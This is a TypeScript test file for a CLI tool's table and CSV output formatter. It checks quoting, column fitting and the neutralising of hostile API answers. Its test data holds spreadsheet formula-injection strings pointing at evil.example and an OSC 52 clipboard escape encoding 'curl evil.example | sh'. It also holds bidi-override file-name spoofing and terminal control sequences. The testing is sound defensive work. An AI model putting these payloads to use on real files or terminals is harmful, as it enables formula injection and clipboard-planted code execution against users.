/**
 * `run --format table|csv`: the exact text for list answers (primary fields, declared and default
 * columns, dotted paths, nested values), key/value answers, failed, partial and dry runs, several
 * runs; RFC 4180 quoting; cells a spreadsheet would run as formulas and characters a terminal would
 * obey, from hostile answers; tables fitted to the width without cutting an identifier or a hint;
 * the notes that say what a view leaves out.
 */
import { fitColumns, wrapText } from '../../src/cli/cells.js';
import { formatResults, type FormatOptions, type RecordFields } from '../../src/cli/format.js';
import type { ResultEnvelope } from '../../src/runtime/run.js';

const envelope = (over: Partial<ResultEnvelope>): ResultEnvelope => ({
  status: 'success',
  action: 'list_things',
  summary: 'Found 2 things.',
  data: null,
  failures: [],
  meta: { requests: 1, duration_ms: 3 },
  ...over,
});

const ROWS = [
  { id: 'a1', subject: 'Invoice, "urgent"\r\nsecond line', from: { emailAddress: 'a@example.com' }, size: 10, attachments: true },
  { id: 'b2', subject: '=HYPERLINK("http://evil.example")', from: { emailAddress: 'b@example.com' }, size: 20, attachments: false, to: ['x@example.com'] },
];

const options = (columns?: string[], width = 120, more: Omit<RecordFields, 'columns'> = {}): FormatOptions => ({
  fieldsOf: (id) => (id === 'list_things' ? { columns, ...more } : undefined),
  width,
});

/** The text `run` prints (stdout). */
const print = (...args: Parameters<typeof formatResults>): string => formatResults(...args).text;

/** Every line of a table is at most `width` terminal columns (the test data is ASCII or box drawing). */
const widest = (text: string) => Math.max(...text.split('\n').map((l) => [...l].length));

describe('csv', () => {
  it('a header and one row per item: the declared columns first, then every other key; quoted as RFC 4180 says', () => {
    const text = print(envelope({ data: ROWS }), 'csv', options(['from.emailAddress', 'subject']));
    expect(text).toBe(
      [
        'from.emailAddress,subject,id,from,size,attachments,to',
        'a@example.com,"Invoice, ""urgent""\r\nsecond line",a1,"{""emailAddress"":""a@example.com""}",10,true,',
        // A text cell a spreadsheet would run as a formula gets a leading quote; numbers and flags stay as they are.
        `b@example.com,"'=HYPERLINK(""http://evil.example"")",b2,"{""emailAddress"":""b@example.com""}",20,false,"[""x@example.com""]"`,
        '',
      ].join('\n'),
    );
  });

  it('a key/value answer, and a failed run, are key,value rows', () => {
    const data = { connected: true, account: { code: 'C1' }, region: 'uk' };
    expect(print(envelope({ data }), 'csv', options())).toBe('key,value\nconnected,true\naccount,"{""code"":""C1""}"\nregion,uk\n');
    const failed = envelope({
      status: 'failed',
      summary: 'Failed: x',
      error: { type: 'permission_error', message: 'Forbidden, "app"', hint: 'Give the role the permission.', http_status: 403 },
    });
    expect(print(failed, 'csv', options())).toBe(
      [
        'key,value',
        'status,failed',
        'action,list_things',
        'error.type,permission_error',
        'error.message,"Forbidden, ""app"""',
        'error.hint,Give the role the permission.',
        'error.http_status,403',
        '',
      ].join('\n'),
    );
  });

  it('a run whose items all failed prints its error and failures, not an empty list', () => {
    const failed = envelope({
      status: 'failed',
      data: [],
      failures: [{ code: 'err_x', message: 'bad', key: 'k1' }],
      error: { type: 'api_error', message: 'The item failed; first: bad (err_x)', code: 'err_x' },
    });
    expect(print(failed, 'csv', options())).toBe(
      [
        'key,value',
        'status,failed',
        'action,list_things',
        'error.type,api_error',
        'error.message,The item failed; first: bad (err_x)',
        'error.code,err_x',
        'failures,"[{""code"":""err_x"",""message"":""bad"",""key"":""k1""}]"',
        '',
      ].join('\n'),
    );
  });

  it('a hostile answer: header cells and values that would start a formula get a leading quote; control and bidi characters become U+FFFD', () => {
    const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
    const data = [
      {
        '=HYPERLINK("http://evil.example","x")': 'a',
        '@SUM(1+1)': '+cmd',
        name: `${OSC52}paste me`,
        note: '\u202eevil.exe\u202c and a\rhidden',
        lines: 'one\r\ntwo\tthree',
        n: -5,
        tab: '\t=1+2',
      },
    ];
    expect(print(envelope({ data }), 'csv', options())).toBe(
      [
        `"'=HYPERLINK(""http://evil.example"",""x"")",'@SUM(1+1),name,note,lines,n,tab`,
        `a,'+cmd,\ufffd]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\ufffdpaste me,\ufffdevil.exe\ufffd and a\ufffdhidden,"one\r\ntwo\tthree",-5,'\t=1+2`,
        '',
      ].join('\n'),
    );
  });

  it('a key/value answer with a hostile key: the key cell is neutralised too', () => {
    expect(print(envelope({ data: { '-2+3': 'x', '\u001b[2Jclear': 1 } }), 'csv', options())).toBe("key,value\n'-2+3,x\n\ufffd[2Jclear,1\n");
  });

  it('several runs: one block each, a blank line between', () => {
    const one = envelope({ data: [{ id: 1 }] });
    const two = envelope({ data: [{ id: 2 }] });
    expect(print([one, two], 'csv', options())).toBe('id\n1\n\nid\n2\n');
  });

  it('an empty list with declared columns is the header alone', () => {
    expect(print(envelope({ data: [] }), 'csv', options(['a', 'b.c']))).toBe('a,b.c\n');
  });
});

describe('table', () => {
  it('the declared columns, dotted paths resolved, one line per item (line breaks and control characters flattened)', () => {
    const rows = [...ROWS, { id: 'c3', subject: 'bell\u0007 and \u001b[31mred', from: null, size: 5 }];
    const text = print(envelope({ data: rows }), 'table', options(['from.emailAddress', 'subject', 'size']));
    expect(text).toBe(
      [
        '┌───────────────────┬───────────────────────────────────┬──────┐',
        '│ from.emailAddress │ subject                           │ size │',
        '├───────────────────┼───────────────────────────────────┼──────┤',
        '│ a@example.com     │ Invoice, "urgent" second line     │ 10   │',
        '│ b@example.com     │ =HYPERLINK("http://evil.example") │ 20   │',
        '│                   │ bell\ufffd and \ufffd[31mred                │ 5    │',
        '└───────────────────┴───────────────────────────────────┴──────┘',
        '',
      ].join('\n'),
    );
  });

  it('without declared columns: the first scalar keys (nested values left out)', () => {
    const text = print(envelope({ data: ROWS }), 'table', options());
    expect(text.split('\n')[1]).toBe('│ id │ subject                           │ size │ attachments │');
  });

  it('primary fields first; the identifier and the contains paths are never cut: other cells are, and columns are left out from the end', () => {
    const id = 'eNoVzrsOgjAUANB_uasklqIgJA74ppIGo6AkLpUWq_JQajHG';
    const rows = [
      { id, description: 'Blocked senders of the finance department', source: 'cloud', parentId: 'eNoPARENT0123456789abcdef', userCount: 3, folderCount: 0 },
      { id: `${id}2`, description: 'VIP', source: 'ldap', parentId: 'eNoPARENT0123456789abcdef', userCount: 12, folderCount: 1 },
    ];
    const fields = { primary: ['id', 'description'], contains: ['id', 'parentId'] };
    const wide = formatResults(envelope({ data: rows }), 'table', options(['source', 'userCount', 'folderCount', 'parentId'], 200, fields));
    expect(wide.text.split('\n')[1]).toBe(
      '│ id                                                │ description                               │ source │ userCount │ folderCount │ parentId                  │',
    );
    expect(wide.notes).toEqual([]);

    const narrow = formatResults(envelope({ data: rows }), 'table', options(['source', 'userCount', 'folderCount', 'parentId'], 80, fields));
    expect(narrow.text).toBe(
      [
        '┌───────────────────────────────────────────────────┬─────────────────┬────────┐',
        '│ id                                                │ description     │ source │',
        '├───────────────────────────────────────────────────┼─────────────────┼────────┤',
        `│ ${id}  │ Blocked sender… │ cloud  │`,
        `│ ${id}2 │ VIP             │ ldap   │`,
        '└───────────────────────────────────────────────────┴─────────────────┴────────┘',
        '',
      ].join('\n'),
    );
    expect(narrow.notes).toEqual([
      'the table leaves out fields userCount, folderCount, parentId; the end of long cells in description (cut with …): --format json shows everything',
    ]);

    // Narrower than the identifier itself: the identifier stays whole (the line is wider), everything else is left out.
    const tiny = formatResults(envelope({ data: rows }), 'table', options(['source'], 30, fields));
    expect(tiny.text.split('\n')[3]).toBe(`│ ${id}  │`);
    expect(tiny.notes).toEqual(['the table leaves out fields description, source, parentId, userCount, folderCount: --format json shows everything']);
  });

  it("a failed run's hint is shown whole: the value column wraps instead of cutting", () => {
    const failed = envelope({
      status: 'failed',
      summary: 'Failed: refused',
      error: {
        type: 'permission_error',
        message: 'Mimecast refused the call: app_forbidden',
        hint: 'Give the application role the permission Directories | Groups | Edit (Account → Roles), then wait about 30 minutes.',
        http_status: 403,
      },
    });
    expect(print(failed, 'table', options(undefined, 60))).toBe(
      [
        '┌───────────────────┬──────────────────────────────────────┐',
        '│ key               │ value                                │',
        '├───────────────────┼──────────────────────────────────────┤',
        '│ status            │ failed                               │',
        '│ action            │ list_things                          │',
        '│ error.type        │ permission_error                     │',
        '│ error.message     │ Mimecast refused the call:           │',
        '│                   │ app_forbidden                        │',
        '│ error.hint        │ Give the application role the        │',
        '│                   │ permission Directories | Groups |    │',
        '│                   │ Edit (Account → Roles), then wait    │',
        '│                   │ about 30 minutes.                    │',
        '│ error.http_status │ 403                                  │',
        '└───────────────────┴──────────────────────────────────────┘',
        '',
      ].join('\n'),
    );
  });

  it('a key/value answer: primary fields first, an identifier never broken across lines', () => {
    const data = { policy: { description: 'p' }, note: 'n '.repeat(30).trim(), id: 'eNo' + 'x'.repeat(40) };
    const text = print(envelope({ data }), 'table', options(undefined, 40, { primary: ['id', 'policy.description'], contains: ['id'] }));
    expect(text.split('\n').slice(3, 9)).toEqual([
      `│ id                 │ eNo${'x'.repeat(40)} │`,
      '│ policy.description │ p                                           │',
      '│ policy             │ {"description":"p"}                         │',
      '│ note               │ n n n n n n n n n n n n n n n n n n n n n n │',
      '│                    │ n n n n n n n n                             │',
      '└────────────────────┴─────────────────────────────────────────────┘',
    ]);
  });

  it('bidi controls are replaced like control characters (the text cannot be reordered on screen)', () => {
    const text = print(envelope({ data: [{ name: 'invoice\u202eexe.pdf\u2066x\u2069' }] }), 'table', options());
    expect(text.split('\n')[3]).toBe('│ invoice\ufffdexe.pdf\ufffdx\ufffd │');
  });

  it('fits the width: the widest columns are cut first, with …', () => {
    const data = [{ name: 'short', text: 'x'.repeat(200), other: 'y'.repeat(50) }];
    const text = print(envelope({ data }), 'table', options(['name', 'text', 'other'], 60));
    expect(widest(text)).toBe(60);
    const row = text.split('\n')[3];
    expect(row).toMatch(/^│ short │ x+… │ y+… │$/);
  });

  it('sizes a column of wide characters by their terminal width (two columns each)', () => {
    const text = print(envelope({ data: [{ name: '日本語' }] }), 'table', options());
    expect(text.split('\n').slice(1, 4)).toEqual(['│ name   │', '├────────┤', '│ 日本語 │']);
  });

  it('a partial run: the rows, then a table of the failed items', () => {
    const partial = envelope({ status: 'partial', data: [{ id: 'ok-1', release: true }], failures: [{ code: 'err_held', message: 'not held', key: 'bad-1' }] });
    expect(print(partial, 'table', options())).toBe(
      [
        '┌──────┬─────────┐',
        '│ id   │ release │',
        '├──────┼─────────┤',
        '│ ok-1 │ true    │',
        '└──────┴─────────┘',
        '┌──────────┬──────────┬───────┬───────┐',
        '│ code     │ message  │ field │ key   │',
        '├──────────┼──────────┼───────┼───────┤',
        '│ err_held │ not held │       │ bad-1 │',
        '└──────────┴──────────┴───────┴───────┘',
        '',
      ].join('\n'),
    );
  });

  it('a dry run: the requests it would send', () => {
    const dry = envelope({
      meta: { requests: 0, duration_ms: 1, dry_run: true },
      data: { requests: [{ method: 'POST', url: 'https://x.example/api/a', headers: { accept: 'application/json' }, body: { data: [{ id: 1 }] } }] },
    });
    expect(print(dry, 'table', options()).split('\n').slice(1, 4)).toEqual([
      '│ method │ url                     │ body                │',
      '├────────┼─────────────────────────┼─────────────────────┤',
      '│ POST   │ https://x.example/api/a │ {"data":[{"id":1}]} │',
    ]);
  });

  it('json is the envelope as the contract prints it', () => {
    const r = envelope({ data: [{ id: 1 }] });
    expect(print(r, 'json', options())).toBe(JSON.stringify(r, null, 2) + '\n');
  });
});

describe('what a view leaves out (notes for stderr)', () => {
  const rows = [{ id: 'a1', subject: 's', from: { emailAddress: 'a@example.com' }, to: ['b@example.com'], size: 1 }];

  it('a table: the fields it does not show, nested ones apart, and meta beyond the counts', () => {
    const r = envelope({
      status: 'partial',
      data: rows,
      failures: [{ code: 'x', message: 'y' }],
      meta: { requests: 3, duration_ms: 9, next_page_token: 't1' },
    });
    expect(formatResults(r, 'table', options(['subject'], 120, { primary: ['id'] })).notes).toEqual([
      'the table leaves out fields size; nested fields from, to; meta next_page_token: --format json shows everything',
    ]);
  });

  it('a CSV: every field is in it, meta is not (its item failures are a warning of their own)', () => {
    const r = envelope({
      status: 'partial',
      data: rows,
      failures: [{ code: 'x', message: 'y' }],
      meta: { requests: 1, duration_ms: 2, pages: 1, next_page_token: 'p2' },
    });
    expect(formatResults(r, 'csv', options()).notes).toEqual(['the CSV leaves out meta next_page_token: --format json shows everything']);
  });

  it('nothing left out, no note; several runs are numbered', () => {
    expect(formatResults(envelope({ data: [{ id: 1 }] }), 'table', options()).notes).toEqual([]);
    const runs = [envelope({ data: [{ id: 1 }] }), envelope({ data: [{ id: 2, more: [1] }] })];
    expect(formatResults(runs, 'table', options()).notes).toEqual(['run 2: the table leaves out nested fields more: --format json shows everything']);
  });
});

describe('wrapText', () => {
  it('breaks at spaces, inside a word longer than the width, and counts wide characters as two', () => {
    expect(wrapText('aa bb cc', 5)).toEqual(['aa bb', 'cc']);
    expect(wrapText('abcdefghij k', 4)).toEqual(['abcd', 'efgh', 'ij k']);
    expect(wrapText('日本語 x', 4)).toEqual(['日本', '語 x']);
  });
});

describe('fitColumns', () => {
  it('keeps natural widths that fit, narrows the widest first, and leaves out the last columns when even the narrowest do not fit', () => {
    expect(fitColumns([5, 10], 80)).toEqual([7, 12]);
    expect(fitColumns([5, 100, 40], 60)).toEqual([7, 24, 25]);
    // Four columns of at least 10 do not fit in 40: the last ones are left out (0) and the three kept share the width.
    expect(fitColumns([30, 30, 30, 30, 30, 30, 30], 40)).toEqual([12, 12, 12, 0, 0, 0, 0]);
    // A whole column is never narrowed: the others give way, then are left out; the first column stays even when it alone is too wide.
    expect(fitColumns([20, 30, 30], 60, [false, true])).toEqual([12, 32, 12]);
    expect(fitColumns([50, 30], 40, [true])).toEqual([52, 0]);
    // A fixed column (a whole identifier among the primary fields) takes what it needs; the others share the rest, at least a quarter of the width.
    expect(fitColumns([200, 20, 10], 80, [true], [true])).toEqual([202, 10, 10]);
    expect(fitColumns([20, 20, 10], 80, [true], [true])).toEqual([22, 22, 12]);
  });
});
